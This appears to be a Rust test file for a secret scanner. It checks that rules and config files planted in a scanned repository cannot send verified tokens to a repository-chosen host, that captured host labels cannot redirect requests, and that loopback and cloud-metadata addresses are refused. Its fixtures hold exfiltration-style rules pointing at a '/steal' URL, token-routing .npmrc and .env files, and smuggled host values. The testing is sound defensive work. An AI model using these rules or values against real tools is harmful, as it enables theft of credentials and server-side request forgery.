//! A repository that wants its owner's tokens sent to a host of its own, in every way that a file can try. Nothing
//! leaves; and the same things do leave where the user himself says so, so that the test tests something.

use super::common::repo::Repo;
use super::common::run::{Ran, run, run_with};
use super::common::token::token;
use super::provider::{Provider, answer};

/// A rule whose tokens are asked about at that URL.
pub fn rule(url: &str) -> String {
    format!(
        "[[rule]]\nid = \"lake-token\"\nprovider = \"lake\"\nname = \"Lake token\"\nseverity = \"high\"\nconfidence = \"high\"\n\
         keywords = [\"lake_\"]\nregex = 'lake_[0-9a-z]{{24}}'\n\
         verify = {{ get = \"{url}\", auth = \"bearer\", live = [200], dead = [401] }}\n\
         revoke = {{ post = \"{url}\", auth = \"bearer\", done = [200] }}\n"
    )
}

fn reason(ran: &Ran) -> String {
    ran.report().findings()[0]["verification"]["reason"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn rules_inside_of_what_is_scanned_send_nothing() {
    let thief = Provider::new(|_| answer(200, "{}"));
    let value = ["lake", "_a1b2c3d4e5f6g7h8i9j0k1l2"].concat();
    let repo = Repo::new();
    let text = rule("https://lake.example.com/steal");
    repo.commit_file("conf/rules.toml", &text);
    repo.commit_file("src/a.txt", format!("t = {value}\n"));
    std::fs::write(repo.home.join("own.toml"), &text).unwrap();
    let endpoint = format!("lake={}", thief.url());
    let scan = |rules: &str, target: &str| {
        let args = ["scan", target, "--rules", rules, "--verify", "-f", "json", "--endpoint", &endpoint];
        run(&repo.home, &repo.path, &args)
    };
    // Of a folder in it the whole repository is meant.
    for (rules, target) in [("conf/rules.toml", "."), ("conf/rules.toml", "src"), ("src/../conf/rules.toml", "./src")] {
        let ran = scan(rules, target);
        assert_eq!(ran.code, 1, "{}", ran.stderr);
        assert!(
            ran.report().notices().iter().any(|notice| notice.contains("the file lies in what is scanned")),
            "{:?}",
            ran.report().notices()
        );
        assert!(reason(&ran).contains("does not say how to ask"), "{}", reason(&ran));
        assert!(thief.heard().is_empty());
    }
    std::os::unix::fs::symlink(repo.path.join("conf/rules.toml"), repo.home.join("link.toml")).unwrap();
    scan(repo.home.join("link.toml").to_str().unwrap(), ".");
    assert!(thief.heard().is_empty(), "by a link");
    scan(repo.home.join("own.toml").to_str().unwrap(), ".");
    assert!(!thief.heard().is_empty(), "the user's own rule is obeyed");
}

#[test]
fn a_built_in_rule_replaced_inside_of_the_tree_sends_nothing() {
    let thief = Provider::new(|_| answer(200, "{}"));
    let value = token(40);
    let repo = Repo::new();
    let text = rule("https://lake.example.com/x").replace("lake-token", "github-pat").replace("lake_[0-9a-z]{24}", "ghp_[0-9A-Za-z]{36}");
    repo.commit_file("rules.toml", text.replace("\"lake_\"", "\"ghp_\""));
    repo.commit_file("a.txt", format!("t = {value}\n"));
    let endpoint = format!("lake={}", thief.url());
    let ran = run(&repo.home, &repo.path, &["scan", ".", "--rules", "rules.toml", "--verify", "-f", "json", "--endpoint", &endpoint]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(thief.heard().is_empty());
}

/// What files of a tree say about hosts is no more than text.
#[test]
fn files_and_urls_of_the_tree_lead_nowhere() {
    let thief = Provider::new(|_| answer(200, r#"{"login":"x"}"#));
    let port = thief.port;
    let vault = ["hvs", ".CAESIJ8s7Gh2kQ0zLw3Rt5Yb7Nc1Xv9Pq4Mf6Td"].concat();
    let npm = ["npm", "_", &token(41)[4..]].concat();
    let repo = Repo::new();
    repo.add(".npmrc", format!("registry=http://127.0.0.1:{port}/\n//127.0.0.1:{port}/:_authToken={npm}\n"));
    repo.add(".pypirc", format!("[distutils]\nindex-servers = x\n[x]\nrepository = http://127.0.0.1:{port}/\nusername = __token__\n"));
    repo.add(".unleak.toml", rule(&format!("https://127.0.0.1:{port}/me")));
    repo.add("lake.txt", ["t = lake", "_a1b2c3d4e5f6g7h8i9j0k1l2\n"].concat());
    repo.add(".env", format!("VAULT_ADDR=http://127.0.0.1:{port}\nVAULT_TOKEN={vault}\nhttps_proxy=http://127.0.0.1:{port}\n"));
    let password = ["kV8", "wq2ZtQ9xR"].concat();
    repo.add("db.txt", format!("postgres://app:{password}@127.0.0.1:{port}/app\nredis://:{password}x@localhost:{port}/0\n"));
    repo.commit("all of it");
    // Loopback proxies of the user's own environment would be used; here nothing may be dialled at all.
    let ran = run(&repo.home, &repo.path, &["scan", ".", "--verify", "-f", "json", "--confidence", "low", "--exclude-rule", "github"]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(thief.heard().is_empty(), "{:?}", thief.heard());
    let text = ran.text();
    assert!(text.contains("`verify` of rule lake-token is disabled"), "{text}");
    assert!(text.contains("--verify-hosts 127.0.0.1") || text.contains("--verify-hosts localhost"), "{text}");
}

/// The table that the user's own configuration may have, in every file of a tree that is read as configuration.
#[test]
fn a_tree_says_nothing_of_how_providers_are_asked() {
    let thief = Provider::new(|_| answer(200, r#"{"login":"x"}"#));
    let value = token(42);
    let repo = Repo::new();
    let url = thief.url();
    let table = format!(
        "[verify]\nhosts = [\"127.0.0.1\"]\nproxy = \"{url}\"\nno-proxy = [\"x\"]\nca = [\"thief.pem\"]\n\
         [verify.endpoints]\ngithub = \"{url}\"\n\"*\" = \"{url}\"\nssh = \"127.0.0.1:{}\"\n",
        thief.port
    );
    repo.add(".unleak.toml", &table);
    repo.add("sub/team.toml", &table);
    repo.add("thief.pem", "no certificate");
    repo.add("a.txt", format!("t = {value}\n"));
    repo.commit("all of it");
    let scan =
        |more: &[&str]| run(&repo.home, &repo.path, &[&["scan", ".", "--verify", "--verify-timeout", "3s", "-f", "json"], more].concat());
    let told = |ran: &Ran| {
        let notices = ran.report().notices();
        for key in ["endpoints", "hosts", "proxy", "no-proxy", "ca"] {
            let what = format!("`verify.{key}` is disabled: the file lies in what is scanned");
            assert!(notices.iter().any(|notice| notice.contains(&what)), "{key}: {notices:?}");
        }
        assert!(thief.heard().is_empty(), "{:?}", thief.heard());
    };
    // The value goes nowhere here: the user names another place for it, where nobody listens.
    let nowhere = ["--endpoint", "github=http://127.0.0.1:9"];
    told(&scan(&nowhere));
    told(&scan(&[&nowhere[..], &["--no-config", "-c", "sub/team.toml"]].concat()));
    repo.write(".unleak.toml", "extends = [\"builtin\", \"sub/team.toml\"]\n");
    told(&scan(&nowhere));
    let shown = run(&repo.home, &repo.path, &["config", "show"]).text();
    assert!(shown.contains("`verify.endpoints` is disabled") && !shown.contains("verify.proxy = "), "{shown}");
    // The same file in the user's own place is obeyed.
    std::fs::create_dir_all(repo.home.join(".config/unleak")).unwrap();
    std::fs::write(repo.home.join(".config/unleak/config.toml"), format!("[verify.endpoints]\ngithub = \"{url}\"\n")).unwrap();
    scan(&[]);
    assert!(!thief.heard().is_empty());
}

#[test]
fn a_label_of_a_host_cannot_become_another_host() {
    let thief = Provider::new(|_| answer(200, "{}"));
    let repo = Repo::folder();
    let rules = repo.home.join("own.toml");
    let row = "verify = { get = \"https://{dc}.lake.example.com/me\", auth = \"bearer\", live = [200], dead = [401] }";
    let text = rule("x").replace("lake_[0-9a-z]{24}'", "(?P<secret>lake_[0-9a-z]{24})-(?P<dc>[!-~]{1,40})'");
    let text: String = text
        .lines()
        .filter(|line| !line.starts_with("revoke"))
        .map(|line| if line.starts_with("verify") { row } else { line }.to_owned() + "\n")
        .collect();
    std::fs::write(&rules, text).unwrap();
    let value = ["lake", "_a1b2c3d4e5f6g7h8i9j0k1l2"].concat();
    for dc in [format!("127.0.0.1:{}/#", thief.port), format!("x@127.0.0.1:{}", thief.port), "a.b.c".into(), "evil.example.com/?".into()] {
        let input = format!("t = {value}-{dc}\n");
        let args = ["stdin", "--rules", rules.to_str().unwrap(), "--verify", "-f", "json", "--verify-hosts", "127.0.0.1"];
        let ran = run_with(&repo.home, &repo.path, &args, input.as_bytes());
        assert_eq!(ran.code, 1, "{}", ran.stderr);
        let why = reason(&ran);
        assert!(why.contains("no single label"), "{dc}: {why}");
    }
    assert!(thief.heard().is_empty());
}

/// The rule's own host at an address of this machine: refused, whoever wrote the rule.
#[test]
fn loopback_needs_the_users_word() {
    let thief = Provider::new(|_| answer(200, "{}"));
    let repo = Repo::folder();
    let rules = repo.home.join("own.toml");
    let value = ["lake", "_a1b2c3d4e5f6g7h8i9j0k1l2"].concat();
    for host in ["127.0.0.1", "localhost", "[::1]", "2130706433", "169.254.169.254", "metadata.google.internal"] {
        std::fs::write(&rules, rule(&format!("https://{host}:{}/me", thief.port))).unwrap();
        let args = ["stdin", "--rules", rules.to_str().unwrap(), "--verify", "-f", "json"];
        let ran = run_with(&repo.home, &repo.path, &args, value.as_bytes());
        assert_eq!(ran.code, 1, "{host}: {}", ran.stderr);
        let report = ran.report();
        let verification = &report.findings()[0]["verification"];
        assert_eq!(verification["state"], "not-checked", "{host}: {verification}");
    }
    assert!(thief.heard().is_empty());
}
